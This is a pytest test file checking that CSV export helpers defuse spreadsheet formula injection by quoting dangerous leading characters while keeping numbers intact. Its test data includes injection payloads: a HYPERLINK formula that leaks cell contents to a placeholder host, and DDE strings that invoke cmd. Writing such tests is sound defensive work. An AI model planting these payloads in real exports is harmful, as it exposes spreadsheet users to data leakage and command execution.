"""Neutralising CSV cells: text that a spreadsheet would run as a formula gets a leading quote; numbers stay
numbers; the writers for ``csv`` streams and pandas frames apply the same rule to every cell and label."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest

from datasets_app.domain.csv_cells import (
    FORMULA_PREFIXES,
    SafeDictWriter,
    SafeWriter,
    frame_to_csv,
    neutralise_cell,
    neutralise_frame,
)

FORMULA = '=HYPERLINK("http://x?"&A1,"Klik")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+62 812 555", "'+62 812 555"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_every_formula_character_at_the_start_of_text_gets_a_quote(text, expected):
    assert neutralise_cell(text) == expected


def test_the_prefixes_are_exactly_the_owasp_ones():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "text",
    ["Jawaban yang bagus", "1 + 1 = 2", "a=b", "model-7b", " =not first", "'=already quoted", "\n=1", "é"],
)
def test_text_that_does_not_begin_with_a_formula_character_is_unchanged(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize(
    "number",
    [-0.12, -1, 0, 3.5, float("-inf"), np.float64(-0.12), np.int64(-7), Decimal("-1.50"), True, False],
)
def test_numbers_stay_numbers_even_when_negative(number):
    result = neutralise_cell(number)
    assert result is number or result == number
    assert type(result) is type(number)


def test_text_that_looks_like_a_negative_number_is_text_and_gets_a_quote():
    # The decision is made on the type: "-0.12" as text came from a person or a model, not from us.
    assert neutralise_cell("-0.12") == "'-0.12"


def test_empty_and_none_are_unchanged():
    assert neutralise_cell("") == ""
    assert neutralise_cell(None) is None


def test_other_values_are_judged_by_their_text():
    class Lazy:
        def __init__(self, text):
            self.text = text

        def __str__(self):
            return self.text

    dangerous, harmless = Lazy("=1+1"), Lazy("ok")
    assert neutralise_cell(dangerous) == "'=1+1"
    assert neutralise_cell(harmless) is harmless
    assert neutralise_cell(["=a"]) == ["=a"]  # its text begins with "["


def test_dict_writer_neutralises_header_and_values_and_keeps_numbers():
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["model", "@alice", "alpha"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"model": "=cmd", "@alice": 'say "-x"', "alpha": -0.12})
    writer.writerows([{"model": "ok", "@alice": None, "alpha": -3}])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["model", "'@alice", "alpha"], ["'=cmd", 'say "-x"', "-0.12"], ["ok", "", "-3"]]


def test_dict_writer_returns_the_line_for_streamed_responses():
    class Echo:
        def write(self, value):
            return value

    writer = SafeDictWriter(Echo(), fieldnames=["a", "b"], lineterminator="\n")
    assert writer.writeheader() == "a,b\n"
    assert writer.writerow({"a": "+1", "b": 2}) == "'+1,2\n"


def test_writer_neutralises_each_cell_and_quotes_as_csv_does():
    buffer = io.StringIO()
    writer = SafeWriter(buffer, lineterminator="\n")
    writer.writerow(["=1,2", -1.5, "plain"])
    writer.writerows([["@x", None]])
    assert buffer.getvalue() == "\"'=1,2\",-1.5,plain\n'@x,\n"


def test_frame_to_csv_neutralises_text_cells_labels_and_index_but_not_numbers():
    frame = pd.DataFrame(
        {
            "=model": ["=a", "b", None],
            "alpha": [-0.12, 0.5, np.nan],
            "mixed": [-1, "-x", None],
            "category": pd.Categorical(["-c", "d", "-c"]),
            "typed": pd.array(["@s", None, "t"], dtype="string"),
        },
        index=pd.Index(["+creator", "bob", "-carol"]),
    )
    text = frame_to_csv(frame, index_label="@who", lineterminator="\n")
    assert text.splitlines() == [
        "'@who,'=model,alpha,mixed,category,typed",
        "'+creator,'=a,-0.12,-1,'-c,'@s",
        "bob,b,0.5,'-x,d,",
        "'-carol,,,,'-c,t",
    ]
    # The frame the caller holds is not changed.
    assert frame.loc["+creator", "=model"] == "=a"


def test_frame_to_csv_writes_to_a_stream_without_the_index():
    frame = pd.DataFrame({"comment": ["=1", "ok"], "value": [-2, 3]}, index=["=i", "j"])
    buffer = io.StringIO()
    assert frame_to_csv(frame, buffer, index=False, lineterminator="\n") is None
    assert buffer.getvalue() == "comment,value\n'=1,-2\nok,3\n"


def test_the_frame_rule_is_the_cell_rule():
    values = ["=a", "+b", "-c", "@d", "\te", "\rf", "g", "", "h=", " =i"]
    column = neutralise_frame(pd.DataFrame({"x": values}))["x"].tolist()
    assert column == [neutralise_cell(v) for v in values]
